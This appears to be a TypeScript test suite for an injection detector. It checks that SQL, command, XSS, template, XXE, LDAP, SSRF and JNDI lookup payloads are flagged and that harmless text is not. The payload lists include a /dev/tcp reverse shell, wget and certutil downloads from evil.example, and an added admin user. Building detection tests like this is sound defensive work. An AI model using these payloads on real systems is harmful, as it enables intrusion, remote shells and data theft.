import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ThreatCategory } from '../../policy/threat-policy.ts';
import { inspectText, inspectXml } from './inspect-text.ts';

const THRESHOLD = 5;
const worst = (text: string, uri = false): number => inspectText(text, uri)[0]?.score ?? 0;
const found = (text: string, uri = false): ThreatCategory[] =>
  inspectText(text, uri)
    .filter(({ score }) => score >= THRESHOLD)
    .map(({ category }) => category);

const ATTACKS: Readonly<Record<ThreatCategory, readonly string[]>> = {
  sql: [
    "ann' or '7'='7",
    "ann' OR 3<4 -- ",
    '42) union select login, secret from people#',
    "x'; drop table people; --",
    "admin'--",
    '9 and sleep(9)',
    "x' and (select count(*) from people) > 2 and 'a'='a",
    '5 or 6 between 1 and 9--',
    "x' waitfor delay '0:0:9'--",
    "1'/**/oR/**/5=5#",
    "x' || (select secret from people limit 1) || '",
    '-3 order by 12--',
    "x' having 4=4--",
    '2*2=4--',
    '2*2=4 or 5>3',
    '2*(3=3 or 4>3)=1',
    '1*if(2=2,3,4)=3',
  ],
  nosql: [
    '{"$ne": null}',
    "x'; return this.secret == 'y",
    "a' || 1==1 //",
    '{ $where: "sleep(900)" }',
    'db.people.drop()',
  ],
  command: [
    '; cat /etc/hosts',
    'a | wget http://evil.example/x',
    'x && id',
    '$(whoami)',
    'x`id`y',
    ';c"a"t$IFS/etc/hosts',
    '127.0.0.1;ls -la /',
    '() { :; }; /bin/id',
    'x & more</etc>/tmp/a',
    'x; id</b>y',
    'bash -i >& /dev/tcp/192.0.2.1/44 0>&1',
    'x; sleep 12',
    'x\nsleep 9s',
    "w'h'o'am'i",
    'i""d',
    '/b\\in/l\\s -l',
    'who$()ami',
    'a=ca;b=t;$a$b /etc/hosts',
    '$u/bin$u/cat$u $u/etc$u/hosts$u',
    'x;${q}id',
    'cat /e*c/h*sts',
    "rev<<<'stsoh/cte/ tac'",
    'mail -s x a@b.example </etc/hosts',
    '{wget,http://evil.example/a}',
    '$0 -c id',
    '$[4+5]',
    'x;./run.sh',
    'x; chmod 777 /srv/x',
    'find . -name x -exec id +',
    'tar cf x y --checkpoint=1 --checkpoint-action=exec=id',
    'ssh -o ProxyCommand=id x',
    'openssl s_client -connect 192.0.2.1:443',
    'powershell -enc SQBFAFgA',
    'for /f %i in (x) do y',
    'w^h^o^a^m^i',
    '& net user mallory Secret1 /add',
    'certutil -urlcache -f http://evil.example/x x',
    '127.0.0.1; date',
    'x;date',
    'x | sort /etc/hosts',
    'x | perl -e "1"',
    'note; env',
    '{cat,/etc/hosts}',
  ],
  code: [
    '<?php echo 1; ?>',
    "__import__('os').popen('id')",
    "require('child_process').exec('id')",
    'T(java.lang.Runtime).getRuntime().exec("id")',
    '!!python/object/apply:os.system ["id"]',
  ],
  path: [
    '/.../.../etc/hosts',
    'https://.../../../etc/hosts',
    '../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    'php://filter/resource=x',
    '\\\\192.0.2.7\\share\\x',
    'a\u0000.png',
    '..;/..;/admin',
  ],
  markup: [
    '<script>f()</script>',
    '<img src=x onerror=f()>',
    '"><svg/onload=f()>',
    '" onfocus=f() autofocus="',
    'javascript:f()',
    '&lt;script&gt;f()&lt;/script&gt;',
    '<a href="java&#10;script:f()">x</a>',
    "';f(1)//",
    '<iframe srcdoc="&lt;p&gt;">',
    '<ScRiPt >f()</sCrIpT>',
    'alert`1`',
    '\uff1cscript\uff1ef()\uff1c/script\uff1e',
  ],
  template: [
    '{{3*4}}',
    '${3*4}',
    '#{3*4}',
    '<%= 3*4 %>',
    "{{''.__class__}}",
    '{{constructor.constructor("f()")()}}',
    '%{(#a=1)}',
    '${"x".getClass()}',
  ],
  xml: [
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]>',
    '<!--#exec cmd="id" -->',
    '<xi:include href="file:///etc/hosts"/>',
  ],
  ldap: [
    '*)(uid=*',
    'x)(|(cn=*))',
    '*(|(cn=*))',
    '(&(uid=a)(cn=b))',
    'x)(age>=1',
    'x)(2.5.4.3=*',
    'x)(cn:caseExactMatch:=Ann',
    '(cn:1.2.840.113556.1.4.803:=2',
    'x\\2a\\28uid=\\2a\\29',
    '(telephoneNumber=*)',
  ],
  xpath: ["x'] | //person[name", 'count(//person)', "x' or name()='person"],
  header: [
    'x\r\nSet-Cookie: a=b',
    'x\nHTTP/1.1 200 OK',
    'ann@example.com\nbcc: all@example.com',
    'x\r\nLocation: https://evil.example/',
  ],
  ssrf: ['http://169.254.169.254/latest/', 'http://0x7f000001/', 'gopher://x/', 'http://metadata.google.internal/'],
  deserialization: ['O:4:"User":1:{s:1:"a";i:1;}', 'rO0ABXNyABFqYXZh', '_$$ND_FUNC$$_function(){}()'],
  lookup: [
    '${jndi:ldap://evil.example/a}',
    '${${lower:j}ndi:dns://x}',
    '${${::-j}${::-n}di:ldap://x}',
    `\${\${${'a'.repeat(300)}:-j}ndi:ldap://x}`,
    `\${${'a'.repeat(300)}\${lower:j}ndi:ldap://x}`,
  ],
  graphql: ['{__schema{types{name}}}'],
};

const HARMLESS = [
  'Please select one of the two from the list and drop the other.',
  "I don't think that it's O'Brien's or Ann's.",
  'Rock & roll; more than that, jazz | blues.',
  'union of the selected, or 1 of them',
  'Tom and Jerry or 2 others, in order by 5 pm',
  "the boys' or the girls' team -- whichever",
  'Call me (0)20 7946 0958; ask for Kate.',
  'see https://example.com/a/b?c=d&e=f#g for more',
  'price: $5.00 (20 % off) = $4',
  'a < b and c > d',
  '<p>Hello <b>world</b>, <a href="https://example.com/">here</a></p>',
  'Use `ls -la` or `cat file` to see',
  '{"a": 1, "b": [2, 3]}',
  'Dear {{name}}, your order {{order.id}} is on its way',
  'Hello ${name}',
  'C:\\Users\\ann\\notes.txt',
  '../images/a.png',
  'SGVsbG8gd29ybGQsIGhvdyBhcmUgeW91Pw==',
  'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9',
  '550e8400-e29b-41d4-a716-446655440000',
  'Müller & Söhne, Straße 5–7 „Zum Löwen“',
  '価格は「1,000円」です',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36',
  '| id | name |\n| --- | --- |\n| 1 | Ann |',
  'One, two;\nthree: four\n\nFrom: here\nTo: there',
  '12 1/2" x 9 3/4"',
  'if (x) then y; else z',
  'What? Why?? Really!!',
  '+44 20 7946 0958',
  'ann@example.com, bob@example.com',
  "I'd go, and she'd go; we'd all go",
  "rock'n'roll",
  'x^2 + y^2 = z^2, a^b^c',
  'src/*/test/*.ts and lib/**/*.js',
  'CORP\\id',
  'A well-known, state-of-the-art bed; sleep 8 hours a night',
  'Coffee & net user growth: up 4-fold',
  'bash - a shell, node - a runtime',
  'see section (b) (c) or (d:e)',
  '2+2=4',
  '3*(4+5) = 27, 12 / 4 = 3',
  '2^3=8; 10-3 = 7',
  'Name; Date; Host',
  'Python | Perl | Ruby',
  'R; Python; Java',
  'File | Edit | View | Help',
  'date; time',
  '{cat,dog} or {host,port}',
  '<li><b>News & more</b></li>',
  '<td>Time & date</td><td>Tips & find</td>',
  'https://.../logo.png',
  'https://..../logo.png or http://.../a/b',
];

describe('inspectText', () => {
  for (const [category, attacks] of Object.entries(ATTACKS))
    it.each(attacks)(`finds ${category} in %j`, (attack) => expect(found(attack)).toContain(category));

  it.each(HARMLESS)('finds nothing that counts in %j', (text) => expect(found(text)).toEqual([]));

  it('finds an attack under two layers of percent-encoding, under entities, escapes and base64', () => {
    const attack = '<script>f()</script>';
    const once = encodeURIComponent(attack);
    const entities = [...attack].map((one) => `&#x${one.charCodeAt(0).toString(16)};`).join('');
    const escapes = [...attack].map((one) => `\\u00${one.charCodeAt(0).toString(16)}`).join('');
    for (const hidden of [once, encodeURIComponent(once), entities, escapes, btoa(attack)])
      expect(worst(hidden), hidden).toBeGreaterThanOrEqual(THRESHOLD);
  });

  it('finds an attack behind 128 KiB of padding', () =>
    expect(found(`${'a'.repeat(131_072)}' or '5'='5`)).toContain('sql'));

  it('judges where a URI leads only where it is declared to be one', () => {
    for (const inside of [
      'http://127.0.0.1/',
      'http://10.1.2.3:8080/x',
      'http://[::1]/',
      'http://localhost/',
      'http://2130706433/',
      'http://0177.1/',
      'http://[::ffff:7f00:1]/',
      'file:///a',
      '//169.254.169.254/',
      'http://127.0.0.1.nip.io/',
    ])
      expect(found(inside, true), inside).toContain('ssrf');
    for (const outside of [
      'https://example.com/',
      'http://192.0.2.1/',
      'https://example.com:8443/a?b=c',
      '/relative/path',
      'https://[2001:db8::1]/',
    ])
      expect(found(outside, true), outside).toEqual([]);
    expect(found('see http://localhost:3000/ for the preview')).toEqual([]);
  });

  it('never says anything of the text in what it found', () => {
    const canary = 'c4n4ry';
    for (const attack of Object.values(ATTACKS).flat())
      expect(JSON.stringify(inspectText(`${attack} ${canary}`))).not.toContain(canary);
  });

  it('words_alone_are_no_threat: letters and blanks without digits are never counted', () => {
    const word = fc.stringMatching(/^[a-z]{1,12}$/);
    fc.assert(fc.property(fc.array(word, { maxLength: 40 }), (words) => worst(words.join(' ')) < THRESHOLD));
  });

  it('case_hides_nothing: an attack in any case is the same attack', () => {
    const attack = fc.constantFrom(...ATTACKS.sql, ...ATTACKS.markup.slice(0, 3), ...ATTACKS.lookup);
    fc.assert(
      fc.property(attack, fc.infiniteStream(fc.boolean()), (text, upper) => {
        const mixed = [...text].map((one) => (upper.next().value === true ? one.toUpperCase() : one)).join('');
        return worst(mixed) >= THRESHOLD;
      }),
      { numRuns: 200 },
    );
  });

  it('any_text_is_inspected: whatever comes, a list of scores from 1 to 10 comes back', () => {
    const piece = fc.oneof(
      fc.string(),
      fc.constantFrom(...Object.values(ATTACKS).flat(), '<', "'", '${', '%', '\\', '\u0000', '\r\n'),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) =>
        inspectText(pieces.join('')).every(({ score }) => score >= 1 && score <= 10),
      ),
    );
  });

  // Quadratic work on a mebibyte takes minutes: the test would run into its time limit.
  it.each([
    '<',
    "'",
    '"',
    '<a x=',
    '<a x="',
    '${',
    '{{',
    '; ls',
    '|',
    '/*',
    ' or 1=',
    '../',
    '%25',
    '&lt;',
    '\\u0027',
    ' onload=',
    '`',
    '(select ',
    'union ',
    '\r\nset-cookie:',
    'QUFB',
    "'-a(",
    'http://',
    '*)(',
    '\n',
    '\n\n x',
    ' ',
    'char(1,',
    '[][',
    '$(',
    '<!--',
    'or ',
    'config ',
    "x'y",
    'a^',
    '/a*',
    'sh<<<',
    '</etc',
    '(a:=',
    '\\2a',
    'find -exec ',
    ';./',
    '; sleep 1',
    '& net user a ',
    "w'h'",
    'socat x',
    '${!a',
    '<!doctype ',
    '<!doctype a public "',
    '<include "',
    '${a',
    '$a{',
  ])(
    'linear_time: a mebibyte of %j is inspected',
    (unit) => expect(inspectText(unit.repeat(Math.ceil(1_048_576 / unit.length))).length).toBeGreaterThanOrEqual(0),
    20_000,
  );

  it.each([
    ['', ':'],
    ['note ', ':'],
    ["x'", '::'],
    ['1', '::jsonb'],
    ['1)', ' as a'],
    ["x'", ' as a'],
    ["x'", ' in boolean mode'],
    ["x'", ' in boolean mode)'],
    ['1', '('],
    ['1', ' a('],
  ])(
    'no_recursion: %j and a million characters of %j are inspected',
    (begin, unit) => {
      const text = begin + unit.repeat(Math.ceil(1_000_000 / unit.length));
      expect(inspectText(text).length).toBeGreaterThanOrEqual(0);
    },
    20_000,
  );

  it('takes casts for nothing, however many: what stands behind them is seen', () => {
    expect(found(`x'${'::text'.repeat(2000)} or 1=1--`)).toContain('sql');
    expect(found("x') as a where 1=1--")).toContain('sql');
  });
});

describe('inspectXml', () => {
  const type = (rest: string): string | null => inspectXml(`<!DOCTYPE ${rest}><a/>`)[0]?.category ?? null;
  const DTD = '"http://evil.example/a.dtd"';

  it.each([
    `a SYSTEM ${DTD}`,
    `a.b SYSTEM ${DTD}`,
    `\u00e9 SYSTEM ${DTD}`,
    `${'a'.repeat(500)} SYSTEM ${DTD}`,
    `a PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" ${DTD}`,
    `a PUBLIC '' ${DTD}`,
    'a SYSTEM "http://www.w3.org.evil.example/a.dtd"',
    'a [<!ELEMENT a ANY>]',
  ])('finds a document type that reaches out: %s', (rest) => expect(type(rest)).toBe('xml'));

  it.each([
    'html',
    'html SYSTEM "about:legacy-compat"',
    'HTML PUBLIC "-//IETF//DTD HTML 2.0//EN"',
    'svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"',
    'plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"',
  ])('takes a document type of nobody else for none: %s', (rest) => expect(type(rest)).toBeNull());

  it('finds an inclusion whatever attributes stand before the one that leads out', () => {
    for (const before of ['parse="text"', `a="${'b'.repeat(300)}"`, 'a=">"', "a='\"'"])
      expect(inspectXml(`<xi:include ${before} href="file:///etc/hosts"/>`)[0]?.category, before).toBe('xml');
  });

  it('finds what XML does to its parser, and takes elements for elements', () => {
    expect(inspectXml('<!DOCTYPE a [<!ENTITY b SYSTEM "x">]><a>&b;</a>')[0]?.category).toBe('xml');
    expect(inspectXml('<object><link href="x"/><form><script>text</script></form></object>')).toEqual([]);
  });
});

it.each([
  'ht\ttp://10.0.0.1/',
  'http://10.0\n.0.1/',
  '\u0001http://10.0.0.1/',
  `${' '.repeat(9)}http://10.0.0.1/`,
  '/\t/10.0.0.1',
])('a declared URI is read as clients read it: %j', (uri) => {
  expect(inspectText(uri, true)[0]).toMatchObject({ category: 'ssrf', feature: 'a private network' });
});
